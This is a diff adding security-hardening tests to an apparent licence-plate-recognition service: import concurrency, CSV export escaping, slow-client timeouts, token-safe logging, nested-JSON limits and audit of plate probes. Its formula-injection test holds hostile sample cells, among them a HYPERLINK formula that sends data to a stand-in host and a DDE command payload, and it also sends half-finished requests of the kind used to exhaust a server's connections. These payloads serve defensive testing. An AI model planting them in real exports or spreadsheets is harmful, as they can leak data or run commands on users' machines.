@@ -6,22 +6,34 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import csv
+import io
 import logging
-from collections.abc import Iterator
+import socket
+from collections.abc import AsyncIterator, Iterator
 from datetime import timedelta
 from pathlib import Path
+from typing import Any
 
 import hypothesis
 import pytest
+import sqlalchemy as sa
+from aiohttp.test_utils import TestClient, TestServer
 from hypothesis import strategies as st
 
-from rufina_alpr import privacy
-from rufina_alpr.broker import MosquittoBroker
+from rufina_alpr import privacy, traffic
+from rufina_alpr.api import AccessLogger, Timeouts, create_app, start_api
+from rufina_alpr.broker import MosquittoBroker, free_port
+from rufina_alpr.config import settings_from_mapping
 from rufina_alpr.contract import Topics
-from rufina_alpr.hotlist import Hotlists
+from rufina_alpr.csv_cells import FORMULA_START, safe_cell, unescape_cell
+from rufina_alpr.hotlist import IMPORT_CHUNK, HotlistMatch, Hotlists
 from rufina_alpr.mqtt import Message, MqttLink
 from rufina_alpr.reads import PlateRead
-from rufina_alpr.store import Store
+from rufina_alpr.recognizer import Recognizer
+from rufina_alpr.service import Engine
+from rufina_alpr.stations import default_registry_path
+from rufina_alpr.store import Store, hotlist_entries
 
 from .test_store import NOON, add_passage, make_transit
 
@@ -190,3 +202,214 @@ async def test_the_purge_clears_retained_messages_of_purged_transits(
         topics.station_last("st_b"): make_transit("e-b2").id.encode(),
         topics.station_crop("st_b"): b"jpeg",
     }
+
+
+# ----------------------------------------------------------------------- the API on a real port
+ADMIN = "hardening-admin-token-0123456789abc"
+OPERATOR = "hardening-operator-token-012345678"
+AS_ADMIN = {"Authorization": f"Bearer {ADMIN}"}
+AS_OPERATOR = {"Authorization": f"Bearer {OPERATOR}"}
+REASON = {"reason": "incident 2026/15 on via Roma"}
+
+
+@pytest.fixture
+async def engine(tmp_path: Path, recognizer: Recognizer) -> AsyncIterator[Engine]:
+    settings = settings_from_mapping(
+        {
+            "data_dir": str(tmp_path),
+            "timezone": "Europe/Rome",
+            "api": {
+                "token": ADMIN,
+                "port": free_port(),
+                "users": [{"name": "agente.rossi", "token": OPERATOR, "role": "operator"}],
+            },
+            "stations_file": str(default_registry_path()),
+        }
+    )
+    running = Engine(settings, recognizer)
+    yield running
+    await running.stop(drain_timeout=0)
+
+
+@pytest.fixture
+async def client(engine: Engine) -> AsyncIterator[TestClient[Any, Any]]:
+    server = TestServer(create_app(engine), host="127.0.0.1")
+    await server.start_server(access_log_class=AccessLogger)
+    async with TestClient(server) as test_client:
+        yield test_client
+
+
+def _entries(store: Store) -> int:
+    with store.engine.connect() as connection:
+        return int(connection.scalar(sa.select(sa.func.count()).select_from(hotlist_entries)) or 0)
+
+
+# ----------------------------------------------------------------------- 5. large hotlist import
+async def test_transits_are_stored_while_a_large_import_runs(
+    engine: Engine, client: TestClient[Any, Any]
+) -> None:
+    """A 100k-row import held the single store thread ~50 s: no transit was stored meanwhile."""
+    hotlists = engine.hotlists
+    await engine.in_db(lambda: hotlists.create_list("stolen", "Rubati", "stolen", created_by="t"))
+    assert await engine.in_db(hotlists.match, "XK00001Q", [], "st_a", NOON) == []  # index built
+    rows = 20 * IMPORT_CHUNK
+    text = "plate,reason\n" + "".join(f"XK{n:05d}Q,furto\n" for n in range(rows))
+    importing = asyncio.ensure_future(
+        client.post(
+            "/api/v1/hotlists/stolen/import",
+            data=text,
+            params=REASON,
+            headers={**AS_OPERATOR, "Content-Type": "text/csv"},
+        )
+    )
+    # Store-thread calls of their own: with the import in one call, the first that sees an
+    # entry sees them all.
+    for _ in range(100_000):
+        if importing.done() or await engine.in_db(_entries, engine.store):
+            break
+        await asyncio.sleep(0.01)
+
+    def store_a_transit() -> tuple[bool, list[HotlistMatch], int]:
+        transit = make_transit("e-during-import", plate="XK00001Q")
+        stored = engine.store.add_transit(transit, [])
+        matches = hotlists.match(transit.plate, [], transit.station_id, transit.time)
+        return stored, matches, _entries(engine.store)
+
+    stored, matches, entries_then = await engine.in_db(store_a_transit)
+    response = await importing
+    assert response.status == 200, await response.text()
+    assert (await response.json())["added"] == rows
+    assert stored
+    assert 0 < entries_then < rows, "the transit was stored after the whole import"
+    assert matches == [], "during an import, matching meets the lists as they were"
+    after = await engine.in_db(hotlists.match, "XK00001Q", [], "st_a", NOON)
+    assert (after[0].entry_plate, after[0].match) == ("XK00001Q", "exact")
+
+
+# ----------------------------------------------------------------------- 6. CSV formula injection
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+async def test_exported_csv_cells_never_start_a_formula(
+    engine: Engine, client: TestClient[Any, Any]
+) -> None:
+    """A hotlist note `=HYPERLINK(...)` was exported as a live spreadsheet formula."""
+    hotlists = engine.hotlists
+    await engine.in_db(lambda: hotlists.create_list("watch", "Watch", "watch", created_by="t"))
+    for number, formula in enumerate(FORMULAS):
+        entry = {"plate": f"FX{number:03d}AA", "reason": formula, "notes": formula}
+        response = await client.post(
+            "/api/v1/hotlists/watch/entries", json=entry, headers=AS_OPERATOR
+        )
+        assert response.status == 201, await response.text()
+    exported = await client.get("/api/v1/hotlists/watch/export", params=REASON, headers=AS_OPERATOR)
+    text = await exported.text()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
+    # Read back, the export gives the same entries.
+    await engine.in_db(lambda: hotlists.create_list("copy", "Copy", "watch", created_by="t"))
+    await engine.in_db(lambda: hotlists.import_csv("copy", text, added_by="t"))
+    copied = await engine.in_db(hotlists.entries, "copy")
+    assert sorted(e.notes or "" for e in copied) == sorted(f.strip() for f in FORMULAS)
+    counts = traffic.to_csv(
+        [traffic.TrafficCount("=cmd|' /C calc'!A0", "1h", NOON, "-car", "@in", 3)]
+    )
+    assert not [c for row in csv.reader(io.StringIO(counts)) for c in row if c[:1] in "=+-@"]
+
+
+@SETTINGS
+@hypothesis.given(text=st.text())
+def test_escaped_cells_round_trip(text: str) -> None:
+    escaped = safe_cell(text)
+    assert not escaped.startswith(FORMULA_START)
+    assert unescape_cell(escaped) == text
+
+
+# ----------------------------------------------------------------------- 3. slow clients
+FAST = Timeouts(idle=1.0, body=1.0, lingering=0.5)
+HALF_SENT = {
+    "headers": b"GET /api/health HTTP/1.1\r\nHost: x\r\nAccept: */",
+    "body": (
+        b"POST /api/v1/holds HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
+        + ADMIN.encode()
+        + b"\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"
+    ),
+    "idle keep-alive": b"GET /api/health HTTP/1.1\r\nHost: x\r\n\r\n",
+}
+
+
+def _until_closed(port: int, data: bytes) -> bytes:
+    """Send ``data`` and read until the server closes the connection (a socket error if it
+    does not within 15 s: the bound on what any timeout here may take)."""
+    with socket.create_connection(("127.0.0.1", port), timeout=15) as sock:
+        sock.sendall(data)
+        answer = b""
+        while chunk := sock.recv(4096):
+            answer += chunk
+    return answer
+
+
+@pytest.mark.parametrize("stage", list(HALF_SENT))
+async def test_slow_or_idle_connections_are_closed(engine: Engine, stage: str) -> None:
+    """Half-sent requests and idle keep-alive connections were held open forever (fd exhaustion)."""
+    runner = await start_api(engine, timeouts=FAST)
+    try:
+        answer = await asyncio.to_thread(_until_closed, engine.settings.api.port, HALF_SENT[stage])
+    finally:
+        await runner.cleanup()
+    expected = {"headers": b"", "body": b"HTTP/1.1 408 ", "idle keep-alive": b"HTTP/1.1 200 "}
+    assert answer.startswith(expected[stage]), answer[:80]
+
+
+# ----------------------------------------------------------------------- 6. bad input
+async def test_non_ascii_authorization_is_a_401_and_logs_no_token(
+    engine: Engine, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A non-ASCII bearer token was a 500 whose ERROR traceback carried the token."""
+    runner = await start_api(engine, timeouts=FAST)
+    request = "GET /api/v1/info HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sëcrét-tökèn\r\n"
+    try:
+        with caplog.at_level(logging.DEBUG):
+            answer = await asyncio.to_thread(
+                _until_closed,
+                engine.settings.api.port,
+                request.encode("latin-1") + b"Connection: close\r\n\r\n",
+            )
+    finally:
+        await runner.cleanup()
+    assert answer.startswith(b"HTTP/1.1 401 "), answer[:80]
+    assert "tök" not in caplog.text and "t\udcf6k" not in caplog.text
+
+
+@pytest.mark.parametrize("nesting", ["[", '{"a":'])
+async def test_deeply_nested_json_is_a_400(client: TestClient[Any, Any], nesting: str) -> None:
+    """A body nested 100,000 levels deep raised RecursionError: a 500."""
+    closing = "]" if nesting == "[" else "}"
+    body = nesting * 100_000 + "1" + closing * 100_000
+    for path in ("/api/v1/holds", "/api/v1/hotlists"):
+        response = await client.post(
+            path, data=body, headers={**AS_ADMIN, "Content-Type": "application/json"}
+        )
+        assert response.status == 400, (path, await response.text())
+
+
+async def test_hold_by_plate_probes_are_audited(
+    engine: Engine, client: TestClient[Any, Any]
+) -> None:
+    """Asking for a hold on a plate told whether it had transits, and left no audit entry."""
+    assert engine.store.add_transit(make_transit("e-held", plate="HL123DX", moment=NOON), [])
+    for plate, status in (("HL123DX", 201), ("NO000NE", 404)):
+        body = {
+            "case_number": "2026/15",
+            "reason": "probe test",
+            "plate": plate,
+            "since": (NOON - timedelta(hours=1)).isoformat(),
+            "until": (NOON + timedelta(hours=1)).isoformat(),
+        }
+        response = await client.post("/api/v1/holds", json=body, headers=AS_OPERATOR)
+        assert response.status == status, await response.text()
+    log = await engine.in_db(lambda: privacy.Audit(engine.store).entries(action="hold_search"))
+    assert [(e.query["plate"], e.results, e.actor) for e in reversed(log)] == [
+        ("HL123DX", 1, "agente.rossi"),
+        ("NO000NE", 0, "agente.rossi"),
+    ]
